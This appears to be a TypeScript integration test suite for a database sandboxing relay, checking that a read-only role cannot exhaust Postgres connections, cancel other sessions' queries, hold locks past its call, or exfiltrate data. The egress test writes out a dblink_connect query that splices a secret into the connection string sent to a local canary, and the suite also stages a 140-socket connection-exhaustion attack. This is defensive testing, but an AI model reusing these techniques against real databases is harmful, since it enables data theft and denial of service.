import net from 'node:net';
import os from 'node:os';
import { after, before, describe, it } from 'node:test';
import { integrationSuite } from './support/suite.js';
import assert from 'node:assert/strict';
import { Client, type DatabaseError } from 'pg';
import { encodeCancelRequest, parseErrorFields } from '../../src/database/pg-wire.js';
import { encodeStartupMessage } from '../support/pg-startup-message.js';
import { ROLE_PREFIX } from '../../src/database/role-grants.js';
import { adminEndpoint, withDatabase } from '../../src/database/admin-url.js';
import type { DatabaseSection } from '../../src/profile/database-profile-schema.js';
import { DatabaseNotPreparedError } from '../../src/database/grant-checks.js';
import { RoleProvisioner, type CreatedRole } from '../../src/database/role-provisioner.js';
import { SessionDatabase } from '../../src/database/session-database.js';
import { PG_SOCKET_FILE } from '../../src/database/socket-relay.js';
import { startSocketRelay } from '../../src/database/pg-socket-relay.js';
import { FALLBACK_SANDBOX_USER } from '../../src/profile/profile-schema.js';
import { silentLogger } from '../../src/util/logger.js';
import { docker, eventually } from './support/docker.js';
import { startPostgres, type StartedPostgres } from './support/postgres.js';
import { adminAltersItems, throughRelay } from './support/database.js';

/**
 * Issue 11, items 3 to 5: a server with only a read role and no network attacks through its
 * database. Each test attacks as the issue describes and asserts what Postgres shows (backends in
 * pg_stat_activity, rows of pg_locks, whether the superuser still gets in, what a canary received).
 */

const SHOP = 'shop';
const EGRESS = 'egress';
const LIMIT = 5;
const SECTION: DatabaseSection = {
  adminUrlEnv: 'UNUSED',
  database: SHOP,
  schemas: ['shop'],
  privilege: 'read',
  roleTtlMinutes: 60,
  connectionLimit: LIMIT,
};
const [SANDBOX_UID, SANDBOX_GID] = FALLBACK_SANDBOX_USER.split(':').map(Number) as [number, number];
const SANDBOX_USER = { uid: SANDBOX_UID, gid: SANDBOX_GID };

let pg: StartedPostgres;
let admin: Client;
let sessionCounter = 0;

function identity() {
  sessionCounter += 1;
  return { sessionId: `atk${sessionCounter}`, ownerHost: os.hostname(), ownerPid: process.pid };
}

function openSession(options: { callTimeoutMs?: number } = {}): Promise<SessionDatabase> {
  return SessionDatabase.open({
    adminUrl: pg.adminUrl,
    section: SECTION,
    identity: identity(),
    log: silentLogger,
    onViolation: () => undefined,
    isOwnerAlive: () => true,
    ...options,
  });
}

/**
 * A raw connection that sends a startup packet and then never answers the server's
 * authentication request: what holds a Postgres backend before CONNECTION LIMIT applies.
 * Resolves with the first message the socket gets: 'R' (Postgres asks for the password) or the
 * relay's own 'E'.
 */
function pendingStartup(
  socketPath: string,
  user: string,
  database: string,
): Promise<{ socket: net.Socket; first: string; error?: string; closed: Promise<void> }> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(socketPath);
    const closed = new Promise<void>((r) => socket.once('close', () => r()));
    let buffered = Buffer.alloc(0);
    socket.on('error', () => undefined);
    socket.once('connect', () => socket.write(encodeStartupMessage({ user, database })));
    socket.on('data', (chunk: Buffer) => {
      buffered = Buffer.concat([buffered, chunk]);
      if (buffered.length < 5) return;
      const type = String.fromCharCode(buffered[0]!);
      const length = buffered.readInt32BE(1);
      if (type === 'E') {
        if (buffered.length < length + 1) return;
        resolve({ socket, first: 'E', error: parseErrorFields(buffered.subarray(5, length + 1)).message, closed });
      } else {
        resolve({ socket, first: type, closed });
      }
    });
    socket.once('close', () => resolve({ socket, first: 'closed', closed }));
    setTimeout(() => reject(new Error('no answer to a startup packet within 10 s')), 10_000).unref();
  });
}

async function superuserConnects(): Promise<true | string> {
  const client = new Client({ connectionString: withDatabase(pg.adminUrl, SHOP) });
  client.on('error', () => undefined);
  try {
    await client.connect();
    await client.query('SELECT 1');
    return true;
  } catch (error) {
    return (error as Error).message;
  } finally {
    await client.end().catch(() => undefined);
  }
}

async function backendsOf(role: string): Promise<number> {
  const { rows } = await admin.query<{ n: number }>(
    'SELECT count(*)::int AS n FROM pg_stat_activity WHERE usename = $1',
    [role],
  );
  return rows[0]!.n;
}

/** Locks held by sessions of the role, and advisory locks held by anyone. */
async function locksOf(role: string): Promise<{ role: number; advisory: number }> {
  const { rows } = await admin.query<{ role: number; advisory: number }>(
    `SELECT (SELECT count(*)::int FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid WHERE a.usename = $1) AS role,
            (SELECT count(*)::int FROM pg_locks WHERE locktype = 'advisory') AS advisory`,
    [role],
  );
  return rows[0]!;
}

/** The admin's ALTER TABLE, waiting at most a second for its lock: true when it went through. */
function adminAlters(column: string): Promise<true | string> {
  return adminAltersItems(withDatabase(pg.adminUrl, SHOP), column);
}

async function hintboxRoles(): Promise<string[]> {
  const { rows } = await admin.query<{ name: string }>(
    'SELECT rolname AS name FROM pg_roles WHERE left(rolname, length($1)) = $1 ORDER BY 1',
    [ROLE_PREFIX],
  );
  return rows.map((r) => r.name);
}

integrationSuite(
  'a read-only, network-less server attacks through its database (issue 11, items 3-5)',
  { timeout: 300_000 },
  (suite) => {
    before(async () => {
      pg = await startPostgres();
      const setup = new Client({ connectionString: pg.adminUrl });
      await setup.connect();
      await setup.query(`CREATE DATABASE ${SHOP}`);
      await setup.query(`CREATE DATABASE ${EGRESS}`);
      await setup.end();
      admin = new Client({ connectionString: withDatabase(pg.adminUrl, SHOP) });
      await admin.connect();
      await admin.query(`
      CREATE SCHEMA shop;
      CREATE TABLE shop.items (id int PRIMARY KEY, name text NOT NULL);
      INSERT INTO shop.items VALUES (1, 'lamp'), (2, 'desk');
    `);
      await using provisioner = await RoleProvisioner.connect({ adminUrl: pg.adminUrl, section: SECTION });
      await provisioner.prepare();
    });

    suite.defer(async () => {
      if (admin) {
        await using provisioner = await RoleProvisioner.connect({ adminUrl: pg.adminUrl, section: SECTION });
        for (const name of await hintboxRoles().catch(() => []))
          await provisioner.dropRole(name).catch(() => undefined);
        await admin.end().catch(() => undefined);
      }
      await pg?.stop();
    });

    describe('connection exhaustion through the relay (item 3)', () => {
      // proves: DB-CONNECTIONS
      it("refuses a sandbox's startups beyond its role's connection limit, so 140 pending ones leave Postgres usable and the superuser gets in", async () => {
        const db = await openSession();
        const held: net.Socket[] = [];
        try {
          const access = await db.access('ro-offline-dbread', 'read', SANDBOX_USER);
          const socketPath = `${access.socketDir}/${PG_SOCKET_FILE}`;
          const answers = await Promise.all(
            Array.from({ length: 140 }, () =>
              pendingStartup(socketPath, access.env.PGUSER!, access.env.PGDATABASE!).then((a) => {
                held.push(a.socket);
                return a;
              }),
            ),
          );
          const reached = answers.filter((a) => a.first === 'R').length;
          const refused = answers.filter((a) => a.first === 'E');
          assert.equal(await superuserConnects(), true, 'the superuser still connects');
          assert.ok(reached <= LIMIT, `at most ${LIMIT} startups reached Postgres (${reached})`);
          assert.equal(refused.length, 140 - reached);
          assert.match(refused[0]!.error ?? '', /^hintbox relay: .*connection limit \(5\)/);
          // A new client of the application (another role) gets in too.
          const { rows } = await admin.query<{ n: number }>(
            "SELECT count(*)::int AS n FROM pg_stat_activity WHERE backend_type = 'client backend'",
          );
          assert.ok(rows[0]!.n <= LIMIT + 3, `Postgres has ${rows[0]!.n} client backends`);
        } finally {
          for (const socket of held) socket.destroy();
          await db.close();
        }
      });

      // proves: DB-CONNECTIONS
      it('cuts a startup that does not authenticate in time, and its slot is free again', async () => {
        await using provisioner = await RoleProvisioner.connect({ adminUrl: pg.adminUrl, section: SECTION });
        const role = await provisioner.createRole({ identity: identity(), classId: 'ro-offline', privilege: 'read' });
        try {
          await using relay = await startSocketRelay({
            upstream: adminEndpoint(pg.adminUrl).upstream,
            allow: { user: role.name, database: SHOP },
            maxConnections: 2,
            startupTimeoutMs: 1_000,
          });
          const started = Date.now();
          const pending = await Promise.all([1, 2].map(() => pendingStartup(relay.socketPath, role.name, SHOP)));
          assert.deepEqual(
            pending.map((p) => p.first),
            ['R', 'R'],
            'both reached Postgres, which asks for the password',
          );
          await Promise.all(pending.map((p) => p.closed));
          const elapsed = Date.now() - started;
          assert.ok(elapsed < 5_000, `the relay cut both within the startup timeout (${elapsed} ms)`);
          await eventually(async () => relay.connectionCount === 0, 2_000, 'the relay forgot them');
          const client = new Client({ host: relay.dir, user: role.name, password: role.password, database: SHOP });
          await client.connect();
          assert.equal((await client.query('SELECT count(*)::int AS n FROM shop.items')).rows[0].n, 2);
          await client.end();
        } finally {
          await provisioner.dropRole(role.name);
        }
      });
    });

    describe('cancel requests through the relay', () => {
      /** Sends a CancelRequest for a client's backend through a relay socket, as libpq's PQcancel does. */
      async function cancelThrough(socketPath: string, target: Client): Promise<void> {
        const { processID, secretKey } = target as unknown as { processID: number; secretKey: number };
        const key = Buffer.alloc(8);
        key.writeInt32BE(processID, 0);
        key.writeInt32BE(secretKey, 4);
        const socket = net.connect(socketPath);
        socket.on('error', () => undefined);
        await new Promise<void>((resolve) => {
          socket.on('close', () => resolve());
          socket.end(encodeCancelRequest(key));
        });
      }

      // proves: DB-RELAY
      it("passes a CancelRequest on only for the sandbox's own sessions: another client's query runs on", async () => {
        const db = await openSession();
        const other = new Client({ connectionString: withDatabase(pg.adminUrl, SHOP) });
        await other.connect();
        try {
          const access = await db.access('ro-offline-dbread', 'read', SANDBOX_USER);
          const socketPath = `${access.socketDir}/${PG_SOCKET_FILE}`;
          const running = (c: Client, sql: string) =>
            c.query(sql).then(
              () => 'finished',
              (e: DatabaseError) => e.code,
            );
          const othersQuery = running(other, 'SELECT pg_sleep(2)');
          const own = await throughRelay(access.socketDir, access.env);
          const ownQuery = running(own, 'SELECT pg_sleep(30)');
          await eventually(
            async () =>
              (
                await admin.query<{ n: number }>(
                  "SELECT count(*)::int AS n FROM pg_stat_activity WHERE query LIKE 'SELECT pg_sleep(%' AND state = 'active'",
                )
              ).rows[0]!.n === 2,
            5_000,
            'both queries run',
          );
          await cancelThrough(socketPath, other);
          await cancelThrough(socketPath, own);
          assert.equal(await ownQuery, '57014', "the sandbox's own query is cancelled");
          assert.equal(await othersQuery, 'finished', "another client's query is not");
          await own.end();
        } finally {
          await other.end();
          await db.close();
        }
      });
    });

    describe("a read role's side effects end with its call (item 5)", () => {
      // proves: DB-SESSION-BOUNDS
      it("endCallSessions ends the sandbox's sessions: its advisory lock and idle transaction are gone and the admin's ALTER TABLE goes through", async () => {
        const db = await openSession();
        try {
          const access = await db.access('ro-offline-dbread', 'read', SANDBOX_USER);
          const role = access.env.PGUSER!;
          const locker = await throughRelay(access.socketDir, access.env);
          await locker.query('SELECT pg_advisory_lock(42)');
          await locker.query('BEGIN');
          await locker.query('SELECT count(*) FROM shop.items');
          // A second session whose query still runs when the call ends.
          const busy = await throughRelay(access.socketDir, access.env);
          const running = busy.query('SELECT pg_advisory_lock(43), pg_sleep(60), count(*) FROM shop.items');
          running.catch(() => undefined);
          await eventually(async () => (await locksOf(role)).advisory === 2, 5_000, 'both advisory locks are held');

          assert.equal(await adminAlters('blocked'), '55P03', 'the attack: the idle transaction blocks ALTER TABLE');

          const ended = await db.endCallSessions('ro-offline-dbread');
          assert.ok(ended >= 2, `ended the sandbox's sessions (${ended})`);
          // No waiting here: when endCallSessions returns, the backends are gone.
          assert.equal(await backendsOf(role), 0, 'no backend of the role is left');
          assert.deepEqual(await locksOf(role), { role: 0, advisory: 0 });
          assert.equal(await adminAlters('after_call'), true, "the admin's ALTER TABLE goes through");
          await assert.rejects(locker.query('SELECT 1'), 'the session is gone');
          await locker.end().catch(() => undefined);
          await assert.rejects(running, 'the running query ended with its session');
          await busy.end().catch(() => undefined);

          const next = await throughRelay(access.socketDir, access.env);
          assert.equal(
            (await next.query('SELECT count(*)::int AS n FROM shop.items')).rows[0].n,
            2,
            'the next call connects',
          );
          await next.end();
        } finally {
          await db.close();
        }
      });

      // proves: DB-SESSION-BOUNDS
      it("the roles hintbox creates bound statements and idle transactions by the call's timeout, without hintbox's help", async () => {
        const db = await openSession({ callTimeoutMs: 2_000 });
        try {
          const access = await db.access('ro-offline-dbread', 'read', SANDBOX_USER);
          const role = access.env.PGUSER!;
          const { rows } = await admin.query<{ config: string[] }>(
            'SELECT rolconfig AS config FROM pg_roles WHERE rolname = $1',
            [role],
          );
          assert.deepEqual(rows[0]!.config.filter((s) => /timeout/.test(s)).sort(), [
            'idle_in_transaction_session_timeout=2000',
            'idle_session_timeout=2000',
            'statement_timeout=2000',
          ]);

          const sleeper = await throughRelay(access.socketDir, access.env);
          const started = Date.now();
          await assert.rejects(sleeper.query('SELECT pg_sleep(30) FROM shop.items'), { code: '57014' });
          assert.ok(Date.now() - started < 10_000, 'the statement was cancelled at its bound');
          await sleeper.end();

          const idle = await throughRelay(access.socketDir, access.env);
          await idle.query('BEGIN');
          await idle.query('SELECT pg_advisory_xact_lock(44), count(*) FROM shop.items');
          assert.equal(await adminAlters('blocked_again'), '55P03');
          await eventually(async () => (await backendsOf(role)) === 0, 10_000, 'Postgres ended the idle transaction');
          assert.deepEqual(await locksOf(role), { role: 0, advisory: 0 });
          assert.equal(await adminAlters('after_idle'), true);
          await idle.end().catch(() => undefined);
        } finally {
          await db.close();
        }
      });
    });

    describe('a read role that switches its bounds off with SET (item 5)', () => {
      // proves: DB-SESSION-BOUNDS
      it("is held to them by the relay: its idle transaction, idle session and long statement end at the call's timeout", async () => {
        const db = await openSession({ callTimeoutMs: 2_000 });
        try {
          const access = await db.access('ro-offline-dbread', 'read', SANDBOX_USER);
          const role = access.env.PGUSER!;
          const unbounded = async (): Promise<Client> => {
            const client = await throughRelay(access.socketDir, access.env);
            await client.query(
              'SET statement_timeout = 0; SET idle_in_transaction_session_timeout = 0; SET idle_session_timeout = 0',
            );
            return client;
          };
          const inTransaction = await unbounded();
          await inTransaction.query('BEGIN');
          await inTransaction.query('SELECT pg_advisory_xact_lock(45), count(*) FROM shop.items');
          const idleSession = await unbounded();
          await idleSession.query('SELECT pg_advisory_lock(46)');
          const longStatement = await unbounded();
          const started = Date.now();
          const sleeping = longStatement.query('SELECT pg_advisory_lock(47), pg_sleep(60), count(*) FROM shop.items');
          sleeping.catch(() => undefined);
          await eventually(async () => (await locksOf(role)).advisory === 3, 5_000, 'three advisory locks are held');
          assert.equal(await adminAlters('blocked_unbounded'), '55P03', 'the attack: ALTER TABLE waits');

          await eventually(async () => (await backendsOf(role)) === 0, 10_000, 'the relay ended all three sessions');
          const elapsed = Date.now() - started;
          assert.ok(elapsed >= 1_500 && elapsed < 8_000, `ended at about the bound (${elapsed} ms)`);
          assert.deepEqual(await locksOf(role), { role: 0, advisory: 0 });
          assert.equal(await adminAlters('after_unbounded'), true);
          await assert.rejects(sleeping, 'the long statement was cut');
          for (const client of [inTransaction, idleSession, longStatement]) await client.end().catch(() => undefined);

          const busy = await unbounded();
          for (let i = 0; i < 6; i += 1) {
            await busy.query('SELECT pg_sleep(0.5)');
          }
          assert.equal((await busy.query('SELECT 1 AS one')).rows[0].one, 1, 'a session in use is not idle');
          await busy.end();
        } finally {
          await db.close();
        }
      });
    });

    describe('a read role that leaves in the middle of a query (item 5)', () => {
      // proves: DB-SESSION-BOUNDS
      it('has its query cancelled by the relay: the backend and its locks do not outlive the socket', async () => {
        const db = await openSession();
        try {
          const access = await db.access('ro-offline-dbread', 'read', SANDBOX_USER);
          const role = access.env.PGUSER!;
          const client = await throughRelay(access.socketDir, access.env);
          await client.query('SET statement_timeout = 0; SET client_connection_check_interval = 0');
          const running = client.query('SELECT pg_advisory_lock(48), pg_sleep(60), count(*) FROM shop.items');
          running.catch(() => undefined);
          await eventually(async () => (await locksOf(role)).advisory === 1, 5_000, 'the advisory lock is held');
          (client as unknown as { connection: { stream: net.Socket } }).connection.stream.destroy();
          await eventually(async () => (await backendsOf(role)) === 0, 4_000, 'the backend ended with its socket');
          assert.deepEqual(await locksOf(role), { role: 0, advisory: 0 });
          assert.equal(await adminAlters('after_leaving'), true);
          await client.end().catch(() => undefined);
        } finally {
          await db.close();
        }
      });
    });

    describe('egress through the database (item 4)', () => {
      const section = { ...SECTION, database: EGRESS, schemas: ['app'] };
      let egress: Client;
      let canary: net.Server;
      let canaryHost: string;
      const received: Buffer[] = [];

      before(async () => {
        egress = new Client({ connectionString: withDatabase(pg.adminUrl, EGRESS) });
        await egress.connect();
        await egress.query(`
        CREATE SCHEMA app;
        CREATE TABLE app.secrets (id int PRIMARY KEY, value text NOT NULL);
        INSERT INTO app.secrets VALUES (1, 'canary-secret-4711');
        CREATE EXTENSION dblink;
        CREATE EXTENSION postgres_fdw;
        GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO PUBLIC;
        CREATE LANGUAGE plfetch HANDLER plpgsql_call_handler VALIDATOR plpgsql_validator;
        CREATE FUNCTION app.fetch_url(url text) RETURNS text LANGUAGE plfetch AS $$ BEGIN RETURN url; END $$;
      `);
        // A canary the test runs itself, on the address Postgres's container reaches the host by.
        const { docker: d } = await docker();
        const inspect = await d.getContainer(pg.container.getId()).inspect();
        canaryHost = Object.values(inspect.NetworkSettings.Networks)[0]!.Gateway;
        canary = net.createServer((socket) => {
          socket.on('data', (chunk: Buffer) => received.push(chunk));
          socket.on('error', () => undefined);
          setTimeout(() => socket.destroy(), 200).unref();
        });
        await new Promise<void>((resolve) => canary.listen(0, canaryHost, resolve));
      });

      after(async () => {
        canary?.close();
        await egress?.end().catch(() => undefined);
      });

      // proves: DB-EGRESS
      it('stops the run with one line each for dblink, postgres_fdw, PUBLIC USAGE on a foreign-data wrapper and a routine in an untrusted language', async () => {
        await using provisioner = await RoleProvisioner.connect({ adminUrl: pg.adminUrl, section });
        const problems = (await provisioner.checkDatabase()).filter((p) => p.severity === 'refuse');
        const egressProblems = problems.filter((p) => /dblink|postgres_fdw|plfetch/.test(p.message));
        assert.deepEqual(
          egressProblems.map((p) => p.kind),
          ['egress-extension', 'egress-extension', 'public-usage-foreign-data-wrapper', 'untrusted-language-routine'],
        );
        assert.match(egressProblems[0]!.message, /^extension dblink .*PUBLIC may execute \d+ of its functions/);
        assert.match(egressProblems[1]!.message, /^extension postgres_fdw /);
        assert.match(egressProblems[2]!.message, /^PUBLIC has USAGE on foreign data wrapper postgres_fdw/);
        assert.match(egressProblems[3]!.message, /app\.fetch_url\(text\).*untrusted language plfetch/);
        assert.ok(
          egressProblems.every((p) => !p.message.includes('\n')),
          'one line each',
        );
        const error = await provisioner
          .createRole({ identity: identity(), classId: 'ro-offline', privilege: 'read' })
          .then(
            () => assert.fail('created a role in a database where it can reach the network'),
            (e: unknown) => e as Error,
          );
        assert.ok(error instanceof DatabaseNotPreparedError);
        assert.match(error.message, /dblink/);
        assert.deepEqual(await hintboxRoles(), []);
      });

      // proves: DB-EGRESS
      it("db prepare revokes EXECUTE on them; a read role's dblink_connect to a canary then fails and the canary receives nothing", async () => {
        await using provisioner = await RoleProvisioner.connect({ adminUrl: pg.adminUrl, section });
        const { statements, remaining } = await provisioner.prepare();
        assert.deepEqual(remaining, []);
        for (const revoke of [
          /^REVOKE EXECUTE ON ROUTINE .*public\.dblink_connect\(text\).* FROM PUBLIC$/,
          /^REVOKE USAGE ON FOREIGN DATA WRAPPER "postgres_fdw" FROM PUBLIC$/,
          /^REVOKE EXECUTE ON ROUTINE app\.fetch_url\(text\) FROM PUBLIC$/,
        ]) {
          assert.ok(
            statements.some((s) => revoke.test(s)),
            `${revoke} among:\n${statements.join('\n')}`,
          );
        }
        const { rows } = await egress.query<Record<string, boolean>>(
          `SELECT has_function_privilege('public', 'public.dblink_connect(text)', 'EXECUTE') AS dblink,
                has_foreign_data_wrapper_privilege('public', 'postgres_fdw', 'USAGE') AS fdw,
                has_function_privilege('public', 'app.fetch_url(text)', 'EXECUTE') AS untrusted`,
        );
        assert.deepEqual(rows[0], { dblink: false, fdw: false, untrusted: false });
        const role: CreatedRole = await provisioner.createRole({
          identity: identity(),
          classId: 'ro-offline',
          privilege: 'read',
        });
        try {
          const client = new Client({
            host: pg.host,
            port: pg.port,
            user: role.name,
            password: role.password,
            database: EGRESS,
          });
          await client.connect();
          const port = (canary.address() as net.AddressInfo).port;
          const attack = `SELECT dblink_connect('host=${canaryHost} port=${port} connect_timeout=3 sslmode=disable gssencmode=disable user=' || value || ' password=x') FROM app.secrets`;
          const outcome = await client.query(attack).then(
            () => 'connected',
            (e: DatabaseError) => e.code,
          );
          const udf = await client.query("SELECT app.fetch_url('http://canary')").then(
            () => 'ran',
            (e: DatabaseError) => e.code,
          );
          await client.end();
          assert.equal(
            Buffer.concat(received).includes('canary-secret-4711'),
            false,
            'the canary never saw the secret',
          );
          assert.equal(received.length, 0, 'nothing reached the canary');
          assert.equal(outcome, '42501', 'dblink_connect is refused for lack of privilege');
          assert.equal(udf, '42501', 'the untrusted-language routine is refused');
        } finally {
          await provisioner.dropRole(role.name);
        }
      });
    });
  },
);
